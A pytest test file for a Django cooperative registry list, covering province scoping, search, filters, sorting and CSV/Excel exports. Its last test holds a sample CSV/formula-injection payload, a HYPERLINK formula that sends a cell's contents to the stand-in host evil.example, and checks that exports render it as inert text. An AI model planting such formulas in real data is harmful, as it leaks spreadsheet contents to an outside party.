"""The registry list: scoped, searched, filtered, sorted, paginated, exported as filtered."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from accounts.models import User
from cooperatives.models import AdminUnit, Organisation, Rating

pytestmark = pytest.mark.django_db
URL = reverse("registry_list")


@pytest.fixture
def national(client):
    client.force_login(User.objects.get(username="lanhdao"))
    return client


def test_a_provincial_leader_sees_only_their_provinces_organisations(client):
    client.force_login(User.objects.get(username="lanhdao.bacninh"))
    table = client.get(URL).context["table"]
    bac_ninh = AdminUnit.objects.get(level="province", structure="34", code="24")
    assert table.paginator.count == Organisation.objects.filter(province=bac_ninh).count()


def test_search_finds_by_name_or_registration_code(national):
    organisation = Organisation.objects.exclude(registration_code="").order_by("pk").first()
    by_code = national.get(URL, {"q": organisation.registration_code}).context["table"]
    assert [row.record for row in by_code.page.object_list] == [organisation]
    by_name = national.get(URL, {"q": organisation.name}).context["table"]
    assert organisation in [row.record for row in by_name.page.object_list]


def test_filters_by_kind_and_rating_level_in_a_year(national):
    table = national.get(URL, {"kind": "htx", "rating": "good", "rating_year": "2024"}).context["table"]
    expected = Organisation.objects.filter(kind="htx", ratings__year=2024, ratings__level="good").distinct().count()
    assert table.paginator.count == expected
    assert {row.get_cell("rating_level") for row in table.page.object_list} == {Rating.Level.GOOD.label}


def test_the_rating_column_and_filter_show_the_rating_that_counts(national):
    """TT 01/2020 over TT 09/2017 for an HTX (Rating.objects.counted, as the figures read it)."""
    htx = Organisation.objects.create(
        kind="htx",
        name="HTX Hai Văn Bản",
        sector="agriculture",
        commune=AdminUnit.objects.communes()[0],
        founded_on="2019-01-01",
        registration_code="9700000001",
    )
    Rating.objects.create(organisation=htx, year=2024, scheme="tt09_2017", verified_score=40)
    Rating.objects.create(organisation=htx, year=2024, scheme="tt01_2020", verified_score=85)
    shown = national.get(URL, {"q": htx.registration_code, "rating_year": "2024"}).context["table"]
    assert [row.get_cell("rating_level") for row in shown.page.object_list] == [Rating.Level.GOOD.label]
    weak = national.get(URL, {"q": htx.registration_code, "rating": "weak", "rating_year": "2024"}).context["table"]
    assert weak.paginator.count == 0


def test_filter_by_commune_includes_organisations_of_the_old_communes_that_went_into_it(national):
    organisation = Organisation.objects.filter(commune__structure="63").order_by("pk").first()
    new_commune = organisation.commune.successions.order_by("pk").first().successor
    table = national.get(URL, {"province": organisation.province_id, "commune": new_commune.pk}).context["table"]
    records = [row.record for row in table.paginator.object_list]
    assert organisation in records
    assert all(o.commune == new_commune or o.commune.successions.filter(successor=new_commune) for o in records)


def test_sorting_by_founding_date(national):
    table = national.get(URL, {"sort": "-founded_on"}).context["table"]
    days = [row.record.founded_on for row in table.page.object_list]
    assert days == sorted(days, reverse=True)
    assert len(days) == 25


def body(response) -> bytes:
    """An export's bytes: it is streamed (CSV) or sent from a temporary file (Excel)."""
    assert response.streaming
    return b"".join(response.streaming_content)


def test_csv_export_holds_exactly_the_filtered_rows(national):
    response = national.get(URL, {"kind": "tht", "_export": "csv"})
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8"))))
    assert len(rows) - 1 == Organisation.objects.filter(kind="tht").count()
    assert "Tổ hợp tác" in rows[1]


def test_excel_export_holds_exactly_the_filtered_rows(national):
    response = national.get(URL, {"kind": "lhhtx", "_export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    assert sheet.max_row - 1 == Organisation.objects.filter(kind="lhhtx").count()


def test_its_query_count_is_bounded(national, django_assert_max_num_queries):
    with django_assert_max_num_queries(8):
        national.get(URL, {"kind": "htx", "rating": "fair", "sort": "province"})


@pytest.mark.parametrize("number", ["9223372036854775808", "1" * 40])
def test_an_id_too_long_for_the_database_is_no_error(national, number):
    for url in (reverse("registry_list"), reverse("overview")):
        assert national.get(url, {"province": number, "year": number}).status_code == 200


FORMULA = '=HYPERLINK("http://evil.example/?d="&B3,"Bấm")'


def test_a_name_that_is_a_formula_is_exported_as_text_in_excel_and_csv(national):
    evil = Organisation.objects.order_by("pk").first()
    Organisation.objects.filter(pk=evil.pk).update(name=FORMULA, address="@SUM(1+1)")
    query = {"q": evil.registration_code}
    sheet = openpyxl.load_workbook(io.BytesIO(body(national.get(URL, {**query, "_export": "xlsx"})))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)
    rows = list(csv.reader(io.StringIO(body(national.get(URL, {**query, "_export": "csv"})).decode("utf-8"))))
    assert "'" + FORMULA in rows[1]
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
